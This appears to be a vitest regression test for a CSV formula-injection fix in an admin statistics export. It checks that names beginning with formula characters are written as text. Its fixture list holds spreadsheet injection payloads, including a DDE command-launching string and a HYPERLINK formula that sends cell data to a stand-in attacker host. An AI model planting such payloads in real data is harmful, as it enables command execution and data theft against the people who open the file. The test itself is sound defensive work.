// Issue 20, Low: "CSV export writes user-controlled cells raw (`-2-3` computes in Excel)". A user name
// is chosen by its owner (`-2-3` is a valid one, SPEC §5) and lands in the admin's statistics export;
// opened in a spreadsheet, a cell that begins with = + - @ TAB or CR runs as a formula. Through the
// real export route: no text cell may start one, and figures — negative amounts too — stay numbers.
import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { usersApi } from '#contract/users.ts'
import type { DataOf } from '#contract/http.ts'
import { STATISTICS_TABS, type StatisticsTab, statisticsApi } from '#contract/statistics.ts'
import { args, get, sessionCookie, userFixture } from '../support/console.ts'
import { loader } from '#app/routes/_app.system.statistics-report_.csv/route.ts'

const stub = await vi.hoisted(async () => (await import('../support/api-stub.ts')).startApiStub())
afterAll(() => stub.close())

const HOSTILE_NAMES = [
  '-2-3',
  '=1+1',
  '+1+1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '\t=1+1',
  '\r=1+1',
  '-1+1',
  '+5',
  '-',
  '@',
  '＝1+1',
  '－2－3',
  '=',
]

// Each tab's own figures (its response schema refuses another's), each with a negative amount.
const FIGURES = {
  comprehensive: { bought: 1, spent: 9.9, sold: 2, gmv: 12.3, income: -12.5, withdrawn: 0 },
  orders: { orders: 3, completed: 2, pending: 0, failed: 0, refunded: 1, amount: -12.5, refundAmount: 5 },
  sellers: { orders: 3, completed: 2, pending: 0, failed: 0, refunded: 1, free: 0, gmv: 12.3, refundAmount: 5, fee: 0.62, income: -12.5 },
  withdrawals: { count: 1, completed: 1, pending: 0, failed: 0, amount: -12.5, paid: 0, fee: 0.1 },
}
const SHARES = { shares: 1, visits: 2, purchases: 1, conversionRate: 0.5 }

function tabAnswer<T extends StatisticsTab>(tab: T) {
  const figures = FIGURES[tab]
  return {
    list: HOSTILE_NAMES.map((username, i) => ({ userId: i + 1, username, ...figures, ...(tab === 'sellers' ? SHARES : {}) })),
    total: HOSTILE_NAMES.length,
    pageNum: 1,
    pageSize: 500,
    from: '2026-11-01',
    to: '2026-11-27',
    totals: figures,
    ...(tab === 'comprehensive' ? { daily: [] } : {}),
  }
}

beforeEach(() => {
  stub.reset()
  stub.on(usersApi.userInfo, { data: userFixture({ role: 'admin' }) })
  for (const tab of STATISTICS_TABS) stub.on(statisticsApi[tab], { data: tabAnswer(tab) as DataOf<(typeof statisticsApi)[typeof tab]> })
})

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function cells(text: string): string[] {
  const out: string[] = []
  let i = 0
  while (i < text.length) {
    let cell = ''
    if (text[i] === '"') {
      i++
      while (i < text.length && !(text[i] === '"' && text[i + 1] !== '"')) {
        cell += text[i]
        i += text[i] === '"' ? 2 : 1
      }
      i++
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') cell += text[i++]
    }
    out.push(cell)
    i++
  }
  return out
}

describe.each(STATISTICS_TABS)('the %s statistics CSV', (tab) => {
  it('starts no formula in any cell, and keeps figures numbers', async () => {
    const res = (await loader(args(get(`/system/statistics-report/csv?tab=${tab}&from=2026-11-01&to=2026-11-27`, await sessionCookie('admin-token'))))) as Response
    expect(res.status).toBe(200)
    const all = cells((await res.text()).replace(/^\uFEFF/, ''))
    const formulas = all.filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c) && !/^-?\d+(\.\d+)?%?$/.test(c))
    expect(formulas).toEqual([])
    // Each hostile name is still there, shown as text.
    for (const name of HOSTILE_NAMES) expect(all).toContain(`'${name}`)
    // A negative amount (income after refunds, a correction) is written as the number it is.
    expect(all).toContain('-12.50')
  })
})
